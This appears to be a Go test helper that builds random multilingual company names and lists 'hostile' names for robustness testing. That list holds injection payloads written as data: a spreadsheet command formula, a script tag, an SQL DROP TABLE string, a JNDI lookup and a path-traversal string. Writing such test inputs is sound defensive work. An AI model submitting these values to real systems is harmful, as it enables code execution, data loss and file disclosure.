package halotest

import (
	"math/rand/v2"
	"strings"
	"unicode"
)

// region holds the parts of company names in one language.
type region struct {
	weight   int
	families []string
	trades   []string
	towns    []string
	forms    []string
	patterns []string // F: family, G: another family, T: trade, P: town, L: legal form
}

// regions returns the word lists for ordinary names. Any resemblance to an
// existing company is accidental.
func regions() []region {
	return append([]region{english(), german(), french(), nordic(), iberian(), eastern()}, scripts()...)
}

func english() region {
	return region{
		weight: 62,
		families: words(`Abbott Adeyemi Ainsworth Aldridge Ashworth Atherton Baines Barlow Baxter Beaumont Begum
			Bellamy Bennett Blackwood Bradshaw Brennan Broadbent Callaghan Carmichael Chaudhry Clegg Cooper
			Cunningham Dalton Davies Dempsey Donnelly Drummond Eastwood Ellison Fairbairn Farrell Fitzgerald
			Forsyth Gallagher Gilchrist Goddard Grantham Greaves Haddon Hargreaves Hartley Hathaway Henderson
			Holloway Hughes Ibbotson Iqbal Jarvis Jennings Kavanagh Kershaw Khan Kingsley Lancaster Langford
			Lockwood MacDonald Maddox Mahmood Marlowe McAllister McKenzie Merrick Middleton Montague Mulligan
			Nightingale Norwood O'Brien O'Connor O'Neill Okafor Osborne Oyelaran Patel Pemberton Penrose
			Prescott Quigley Radcliffe Redmond Rhodes Rutherford Sandhu Sheridan Sinclair Stafford Sterling
			Sutcliffe Tennant Thackeray Thornton Trevelyan Underwood Vaughan Wadsworth Wainwright Walmsley
			Wetherby Whitaker Winterbourne Woodhouse Wyndham Yardley`),
		trades: phrases(`Accountants|Architects|Bakery|Brewing|Builders|Building Services|Care Homes|Catering|
			Chartered Surveyors|Civil Engineering|Cleaning|Conveyancing|Dental Practice|Design|Electrical|
			Engineering|Estate Agents|Event Hire|Facilities Management|Farm Supplies|Financial Planning|
			Fire & Security|Flooring|Food Group|Freight|Funeral Directors|Furniture|Garages|Glass|Haulage|
			Heating & Plumbing|Hotels|Housing Association|Insurance Brokers|Interiors|Joinery|Landscapes|Law|
			Legal|Lettings|Logistics|Marine|Medical Centre|Metals|Mortgages|Motor Group|Nurseries|Opticians|
			Packaging|Paper|Pharmacy|Physiotherapy|Precision Tools|Print|Property|Recruitment|
			Recycling|Renewables|Roofing|Scaffolding|Self Storage|Solicitors|Steel|Textiles|Timber|Transport|
			Travel|Veterinary Surgery|Wealth Management|Wholesale|Wines`),
		towns: words(`Aberdeen Alnwick Bath Bedford Belfast Beverley Bolton Bristol Bury Buxton Cambridge Cardiff
			Carlisle Chelmsford Chester Colchester Coventry Darlington Derby Doncaster Dorset Dublin Dundee
			Durham Exeter Falkirk Galway Gloucester Guildford Harrogate Hereford Hexham Huddersfield Inverness
			Ipswich Keswick Kilkenny Lancaster Leeds Leicester Lincoln Ludlow Maidstone Malvern Newport
			Northampton Norwich Nottingham Oakham Oldham Oxford Perth Plymouth Preston Reading Ripon Rochdale
			Salisbury Sheffield Shrewsbury Skipton Solihull Stafford Stirling Stockport Sunderland Swansea
			Swindon Taunton Truro Wakefield Warwick Wells Whitby Wigan Winchester Worcester York`),
		forms: phrases(`Ltd|Ltd|Ltd|Limited|LLP|plc|CIC|Inc.|LLC|Pty Ltd|& Sons Ltd|Group|Holdings Ltd`),
		patterns: phrases(`F T L|F T L|F T L|F & G L|F & G T L|F & G LLP|F T (P) L|P T L|F of P T L|
			F, G & Partners|The P T Company L|F T P|St F's Primary School, P`),
	}
}

func german() region {
	return region{
		weight: 13,
		families: words(`Bäcker Böhm Brandstätter Engelhardt Fröhlich Göbel Großmann Günther Hägele Hübner Jäger
			Köhler Krämer Kühn Löffler Müller Niedermayer Pfützner Rößler Schäfer Schröder Schütz Späth
			Stößel Süß Vögele Weiß Wölfl Zängerle Züblin`),
		trades: phrases(`Anlagenbau|Apotheke|Bau|Bäckerei|Dachdeckerei|Druckerei|Elektrotechnik|Fahrzeugbau|
			Feinmechanik|Gartenbau|Getränke|Hausverwaltung|IT-Systeme|Küchen|Lebensmittel|Maschinenbau|Metallbau|
			Möbel|Pflegedienst|Rechtsanwälte|Sanitär|Spedition|Steuerberatung|Tiefbau|Werkzeuge`),
		towns: words(`Aachen Bern Bregenz Celle Düsseldorf Eßlingen Freiburg Fürth Graz Göttingen Jülich Köln Linz
			Lörrach Lübeck München Münster Nürnberg Osnabrück Salzburg Tübingen Würzburg Zürich`),
		forms:    phrases(`GmbH|GmbH|GmbH & Co. KG|AG|e.K.|OHG|UG (haftungsbeschränkt)|KG|eG|PartG mbB`),
		patterns: phrases(`F T L|F & G L|T F L|F T P L|P T L|Gebr. F T L|F & Söhne T L|Dr. F, G & Kollegen`),
	}
}

func french() region {
	return region{
		weight: 8,
		families: words(`Aubé Béranger Château Côté Delacroix Duchêne Émond Fénelon Gagné Hébert L'Écuyer Lefèvre
			Léonard Maréchal Noël Périer Renée Sébastien Thériault Villeneuve`),
		trades: phrases(`Boulangerie|Bâtiment|Charpente|Conseil|Électricité|Fromagerie|Garage|Hôtellerie|
			Imprimerie|Ménage|Menuiserie|Pharmacie|Plomberie|Traiteur|Transports`),
		towns:    words(`Angoulême Besançon Béziers Genève Liège Montréal Nîmes Orléans Québec Saint-Étienne Sète`),
		forms:    phrases(`S.A.|SARL|SAS|SNC|Sàrl|S.A.S.U.`),
		patterns: phrases(`T F P L|F & Fils T L|T F & Fils (P)|F et G T L|Établissements F G L|L'Atelier F (P)`),
	}
}

func nordic() region {
	return region{
		weight:   5,
		families: words(`Ågren Åkesson Bjørnstad Dahlström Eskilsson Fjällström Gråberg Højgaard Järvinen Kjær Lindström Mäkelä Nygård Øvergaard Sjöberg Sørensen Ylönen`),
		trades:   phrases(`Bygg|Entreprenad|Fastigheter|Fiskeri|Konsult|Måleri|Rör|Rederi|Skog|Tømrer|VVS`),
		towns:    words(`Älmhult Bodø Gävle Göteborg Hämeenlinna Malmö Oslo Tromsø Växjö Ålesund Århus`),
		forms:    phrases(`AB|A/S|AS|Oy|ApS|HB`),
		patterns: phrases(`F T P L|F T i P L|F & G T L|F & G L`),
	}
}

func iberian() region {
	return region{
		weight:   5,
		families: words(`Álvarez Araújo Castaño Conceição Domínguez Echeverría Fernández Gonçalves Ibáñez Magalhães Muñoz Núñez Peña Simões Zúñiga`),
		trades:   phrases(`Asesoría|Bodegas|Carpintería|Clínica Dental|Construções|Frigoríficos|Logística|Panadería|Pinturas|Têxteis|Viajes`),
		towns:    words(`A Coruña Braga Cádiz Évora León Málaga Setúbal`),
		forms:    phrases(`S.L.|S.A.|S.L.U.|Lda.|S.C.`),
		patterns: phrases(`T F P L|F y G T L|T F y G L|Hermanos F P L|Hijos de F G L`),
	}
}

func eastern() region {
	return region{
		weight:   4,
		families: words(`Błaszczyk Černý Dvořák Gąsior Horváth Kőszegi Łukaszewicz Novák Šťastný Szabó Wójcik Żuraw`),
		trades:   phrases(`Budowa|Drukarnia|Gépipar|Hurtownia|Pékség|Stavby|Stolarnia|Strojírny|Usługi IT`),
		towns:    words(`Brno Győr Kraków Łódź Pécs Plzeň Poznań Wrocław`),
		forms:    phrases(`sp. z o.o.|s.r.o.|Kft.|a.s.|S.A.|Zrt.`),
		patterns: phrases(`F T P L|T F P L|F & G T L|F & G P L`),
	}
}

// name returns a random name. Each capital letter in a pattern is replaced by a
// part, except in words with lower-case letters and in "LLP".
func (r region) name(dice *rand.Rand) string {
	var b []byte
	for i, word := range strings.Fields(pick(dice, r.patterns)) {
		if i > 0 {
			b = append(b, ' ')
		}
		if word == "LLP" || word != "F's" && strings.ContainsFunc(word, unicode.IsLower) {
			b = append(b, word...)
			continue
		}
		for _, c := range word {
			b = append(b, r.part(dice, c)...)
		}
	}
	return string(b)
}

// part returns a random part of a name for a letter in a pattern.
func (r region) part(dice *rand.Rand, c rune) string {
	switch c {
	case 'F', 'G':
		return pick(dice, r.families)
	case 'T':
		return pick(dice, r.trades)
	case 'P':
		return pick(dice, r.towns)
	case 'L':
		return pick(dice, r.forms)
	}
	return string(c)
}

func pick[T any](dice *rand.Rand, from []T) T { return from[dice.IntN(len(from))] }

func words(s string) []string { return strings.Fields(s) }

// phrases splits a string at bars and trims spaces and line breaks.
func phrases(s string) []string {
	list := strings.Split(s, "|")
	for i := range list {
		list[i] = strings.TrimSpace(list[i])
	}
	return list
}

// scripts returns the regions that do not use the Latin script. The names of
// each region use one script.
func scripts() []region {
	return []region{
		{
			weight:   2,
			families: words(`田中 佐藤 山本 鈴木 髙橋 渡邊 伊藤 小林 加藤 吉田`),
			trades:   words(`商事 建設 製作所 運輸 電機 印刷 食品 不動産`),
			towns:    words(`大阪 横浜 札幌 福岡 名古屋 京都`),
			forms:    words(`株式会社 有限会社 合同会社 ㈱`),
			patterns: phrases(`PFTL|LFT P支店|LPFT`),
		},
		{
			weight:   1,
			families: words(`东方 华信 金龙 长城 明德 瑞丰`),
			trades:   words(`科技 物流 贸易 建筑 电子 文化传媒`),
			towns:    words(`北京 上海 深圳 杭州 成都`),
			forms:    words(`有限公司 股份有限公司`),
			patterns: phrases(`PFTL|FT(P)L`),
		},
		{
			weight:   1,
			families: words(`Παπαδόπουλος Νικολάου Γεωργίου Ιωάννου Δημητρίου`),
			trades:   words(`Μεταφορές Κατασκευές Τρόφιμα Ξενοδοχεία Φαρμακείο`),
			towns:    words(`Αθήνα Πάτρα Ηράκλειο Βόλος`),
			forms:    words(`Α.Ε. Ο.Ε. Ε.Π.Ε. Μ.Ι.Κ.Ε.`),
			patterns: phrases(`F T P L|F & G T L`),
		},
		{
			weight:   1,
			families: words(`Іваненко Ковальчук Шевчук Соколов Йорданов Ђорђевић`),
			trades:   words(`Строй Логистика Будсервіс Транс Аптека`),
			towns:    words(`Київ Львів София Пловдив Београд`),
			forms:    words(`ООО ТОВ ЕООД д.о.о.`),
			patterns: phrases(`L «F T P»|F & G T L`),
		},
		{
			weight:   1,
			families: words(`الأمير النور الفجر الخليج القدس`),
			trades:   words(`للتجارة للمقاولات للنقل للاستشارات`),
			towns:    words(`دبي عمان بيروت القاهرة`),
			forms:    words(`ش.م.م ذ.م.م`),
			patterns: phrases(`شركة F T P L|مؤسسة F T (P)`),
		},
	}
}

// hostileNames returns names that break careless programs. A person could have
// typed, pasted or imported each of them. [Tenant.Seed] adds all of them if n
// is large enough.
func hostileNames() []string {
	long := "The Worshipful Amalgamated Society of " + strings.Repeat("Carpenters, Joiners, Turners and ", 7) + "Allied Trades of Great Britain & Ireland Ltd"
	return []string{
		// Composed and decomposed letters, which look the same.
		"Caf\u00e9 Ren\u00e9e Ltd", "Cafe\u0301 Rene\u0301e Ltd",
		"Å Å ngström Instruments AB", "A\u030a \u212b ngstro\u0308m Instruments AB",
		// A name that occurs twice, and names that differ only in case.
		"Northgate Dental Practice", "Northgate Dental Practice",
		"Smith & Co", "SMITH & CO", "Smith & Co.",
		"İstanbul Lojistik A.Ş.", "istanbul lojistik a.ş.",
		"Straße & Weg GmbH", "STRASSE & WEG GMBH",
		// Spaces and invisible characters.
		"  Leading Blanks Ltd", "Trailing Blanks Ltd  ", "Two  Blanks  Ltd", "Tab\tIn The Middle Ltd",
		"No\u00a0Break Ltd", "Zero\u200bWidth Ltd", "\ufeffByte Order Mark Ltd", "Line\nBreak Ltd",
		// Quotes, backslashes, markup, formulas, SQL, templates, paths.
		`"Quoted" Ltd`, `O'Brien & O'Neill "Builders" Ltd`, `Back\slash Ltd`, `C:\Temp & Sons`,
		"<b>Bold</b> Marketing Ltd", "<script>alert(1)</script> Web Design", "R&amp;D Services Ltd", "P&L <Finance> Ltd",
		`=cmd|'/c calc'!A1`, "=1+1 Consulting", "+44 Telecoms Ltd", "-Minus Zero Ltd", "@Home Care Ltd", "=HYPERLINK(\"http://example.invalid\",\"Invoices\")",
		"Robert'); DROP TABLE clients;--", "100% Cotton_Mill Ltd", "{{.Name}} Ltd", "${jndi:ldap://example.invalid/a}", "../../etc/passwd Ltd", "A, B; C Ltd",
		// Words that programs treat specially.
		"null", "NULL Ltd", "None", "true", "0", "42", "1e3 Ltd", "12.0", "NaN Bakery", "undefined",
		// Other scripts, right-to-left text, emoji of several code points,
		// characters beyond U+FFFF.
		"東京ソフトウェア株式会社", "上海东方贸易有限公司", "شركة النور للتجارة ش.م.م", `חברת החשמל בע"מ`, "ООО «Ромашка»", "ไทยเทคโนโลยี จำกัด", "हिन्दी सेवा प्रा. लि.",
		"\u202eevil\u202c Ltd", "🍕 Pizza Palace 🍕", "👩\u200d👩\u200d👧\u200d👦 Family Law", "🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f Scottish Salmon", "𝒮𝒸𝓇𝒾𝓅𝓉 Ltd", "𠮷野家ホールディングス",
		"Zalgo Z\u0335\u0321a\u0334\u0322l\u0336g\u0335o\u0337 Ltd",
		// Very long and very short names.
		long, strings.Repeat("界", 255), "X", "Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch Parish Council",
	}
}
